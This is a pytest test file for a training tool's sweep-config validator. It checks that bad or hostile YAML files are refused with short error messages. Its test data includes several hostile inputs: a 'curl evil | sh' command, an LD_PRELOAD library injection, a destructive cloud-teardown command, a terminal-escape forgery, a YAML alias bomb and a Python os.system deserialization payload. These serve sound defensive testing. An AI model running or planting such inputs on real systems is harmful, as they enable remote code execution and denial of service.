"""A sweep file with a mistake is refused in one sentence, before anything is created or rented."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

yaml = pytest.importorskip("yaml", reason="needs the extra [sweep]")

from mesozoic.errors import UserError  # noqa: E402
from mesozoic.sweep.wandb_command import as_trial  # noqa: E402
from mesozoic.sweep.wandb_file import read_sweep  # noqa: E402

SHIPPED = Path(__file__).parents[2] / "configs" / "sweeps" / "velociraptor_balance.yaml"


def write(tmp_path: Path, **changes: Any) -> Path:
    config: dict[str, Any] = {
        "method": "random",
        "run_cap": 3,
        "metric": {"name": "eval/score", "goal": "maximize"},
        "command": ["${env}", "mesozoic", "train", "trex", "--wandb", "${args}"],
        "parameters": {"ppo.learning_rate": {"min": 1e-5, "max": 1e-3}},
    }
    config |= changes
    path = tmp_path / "sweep.yaml"
    path.write_text(yaml.safe_dump({key: value for key, value in config.items() if value is not None}))
    return path


@pytest.mark.skipif(not SHIPPED.is_file(), reason="needs a checkout")
def test_the_one_that_ships() -> None:
    sweep = read_sweep(SHIPPED)
    assert (sweep.runs, sweep.metric) == (24, "sweep/value")
    assert {"ppo.learning_rate", "ppo.n_epochs"} < set(sweep.config["parameters"])


@pytest.mark.parametrize(
    ("changes", "sentence"),
    [
        ({"method": "bayesian"}, "method is 'bayesian'; write one of random, grid, bayes"),
        ({"parameters": {}}, "no parameters to vary"),
        ({"parameters": {"ppo.learning_rte": {"value": 1e-4}}}, "did you mean 'ppo.learning_rate'"),
        ({"parameters": {"learning": {"value": 1}}}, "parameter 'learning' is no key of a stage; did you mean '"),
        ({"parameters": {"ppo.gamma": {"values": [0.9, 1.5]}}}, "ppo.gamma should be less than 1, but it is 1.5"),
        ({"parameters": {"ppo.gamma": {"mean": 0.9}}}, "ppo.gamma says no value; write value, values, or min and max"),
        ({"metric": {"name": "eval/scores"}}, "metric 'eval/scores' is logged by no run; write eval/score"),
        ({"metric": None, "method": "bayes"}, "metric None is logged by no run"),
        ({"command": None}, "there is no command"),
        ({"command": ["mesozoic", "train", "trex"]}, r"lacks \$\{args\}"),
        ({"run_cap": 0}, "run_cap is 0"),
        ({"parameters": {"ppo.gamma": {"min": 0.5, "max": 10**400}}}, "max of ppo.gamma is 1000"),
        ({"parameters": {"ppo.gamma": {"min": float("nan"), "max": 0.9}}}, "min of ppo.gamma is nan"),
        ({"parameters": {"ppo.gamma": {"min": 0.5, "max": float("inf")}}}, "max of ppo.gamma is inf"),
        ({"method": "grid"}, "a grid cannot take ppo.learning_rate from a range"),
    ],
)
def test_mistakes(tmp_path: Path, changes: dict[str, Any], sentence: str) -> None:
    with pytest.raises(UserError, match=sentence) as caught:
        read_sweep(write(tmp_path, **changes))
    assert str(caught.value).startswith("sweep.yaml: ") and "\n" not in str(caught.value)


@pytest.mark.parametrize(
    "command",
    [
        ["sh", "-c", "curl evil | sh; exec mesozoic train --wandb", "${args}"],
        ["/tmp/x", "mesozoic", "train", "trex", "--wandb", "${args}"],
        ["${env}", "LD_PRELOAD=/tmp/x.so", "mesozoic", "train", "trex", "--wandb", "${args}"],
        ["${env}", "./mesozoic", "train", "trex", "--wandb", "${args}"],
        ["${env}", "${interpreter}", "-m", "mesozoic", "train", "trex", "--wandb", "${args}"],
        ["${env}", "mesozoic", "cloud", "down", "--all", "--wandb", "${args}"],
        "mesozoic train trex --wandb",
    ],
)
def test_a_command_that_is_another_is_refused_unless_asked_for(tmp_path: Path, command: object) -> None:
    path = write(tmp_path, command=command)
    with pytest.raises(UserError, match=r"does not begin with 'mesozoic train'|there is no command"):
        read_sweep(path)
    if isinstance(command, list):
        assert command[-2].split()[0] in read_sweep(path, any_command=True).command


def test_the_command_can_be_shown_in_one_line(tmp_path: Path) -> None:
    ours = ["${env}", "mesozoic", "train", "trex", "--wandb", "${args}"]
    assert read_sweep(write(tmp_path, command=ours)).command.endswith("mesozoic sweep trial trex ${args}")
    forged = [*ours[:-1], "--load=a\x1b[2J\nerror: forged", "${args}"]
    shown = read_sweep(write(tmp_path, command=forged)).command
    assert shown.isprintable()


def test_a_training_becomes_a_trial(tmp_path: Path) -> None:
    """So a file that was written for trainings is handed out as trials, whose records say how they ended."""
    words = ["trex", "--stage", "2", "--wandb", "--ppo.gamma=0.9", "--ppo_n_epochs", "4", "env.push_interval=9"]
    command = ["${env}", "mesozoic", "train", *words, "--override", "ppo.ent_coef=0", "--n-envs=64", "${args}"]
    overrides = ["--override=ppo.gamma=0.9", "--override=ppo.n_epochs=4", "--override=env.push_interval=9"]
    kept = ["--override", "ppo.ent_coef=0", "--n-envs=64", "${args}"]
    made = ["${env}", "mesozoic", "sweep", "trial", "trex", "--stage", "2", *overrides, *kept]
    assert as_trial(command, "x") == made
    assert as_trial(made, "x") == made
    assert read_sweep(write(tmp_path)).config["command"][1:4] == ["mesozoic", "sweep", "trial"]


@pytest.mark.parametrize("option", ["--output-dir=x", "--log-dir=x"])
@pytest.mark.parametrize("program", [["train", "--wandb"], ["train"], ["sweep", "trial"]])
def test_one_folder_for_all_runs_is_refused(tmp_path: Path, program: list[str], option: str) -> None:
    with pytest.raises(UserError, match="one folder for all runs; leave it out"):
        read_sweep(write(tmp_path, command=["mesozoic", *program, "trex", option, "${args}"]))


def test_yaml_reads_1e_4_as_a_word(tmp_path: Path) -> None:
    path = tmp_path / "sweep.yaml"
    path.write_text(write(tmp_path).read_text().replace("min: 1.0e-05", "min: 1e-5"))
    with pytest.raises(UserError, match=r"min of ppo.learning_rate is '1e-5', which YAML reads as no number"):
        read_sweep(path)


@pytest.mark.parametrize("content", ["", "- a", "{", "\x00"])
def test_what_is_no_sweep(tmp_path: Path, content: str) -> None:
    path = tmp_path / "sweep.yaml"
    path.write_text(content)
    with pytest.raises(UserError, match=r"sweep.yaml (holds no sweep|is not valid YAML)"):
        read_sweep(path)
    with pytest.raises(UserError, match=r"cannot read .*nowhere.yaml"):
        read_sweep(tmp_path / "nowhere.yaml")


def test_how_many_runs(tmp_path: Path) -> None:
    assert read_sweep(write(tmp_path)).runs == 3
    assert read_sweep(write(tmp_path, run_cap=None)).runs is None
    grid = {"ppo.n_epochs": {"values": [1, 2, 3]}, "seed": {"values": [0, 1]}, "ppo.gamma": {"value": 0.99}}
    assert read_sweep(write(tmp_path, run_cap=None, method="grid", parameters=grid)).runs == 6
    assert read_sweep(write(tmp_path, run_cap=4, method="grid", parameters=grid)).runs == 4


LAUGHS = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(10)
)


@pytest.mark.parametrize(
    ("text", "phrase"),
    [
        (LAUGHS, "aliases written out"),
        ("parameters: " + "[" * 20_000, "nested too deeply"),
        ("run_cap: " + "1" * 5000, "digits"),
        ("run_cap: 0x" + "f" * 5000, "holds no sweep|method is None"),
        ("x: " + "y" * 200_000, "longer than 100,000 bytes"),
        ("!!python/object/apply:os.system [true]", "constructor"),
    ],
)
def test_a_file_that_was_made_to_harm_is_refused_in_one_sentence(tmp_path: Path, text: str, phrase: str) -> None:
    path = tmp_path / "sweep.yaml"
    path.write_text(text)
    with pytest.raises(UserError, match=phrase) as caught:
        read_sweep(path)
    assert len(str(caught.value)) <= 300 and str(caught.value).isprintable()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_a_pipe_or_a_device_is_not_read_for_ever(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.yaml")
    for path in (tmp_path / "pipe.yaml", Path("/dev/zero")):
        with pytest.raises(UserError, match="is no plain file"):
            read_sweep(path)
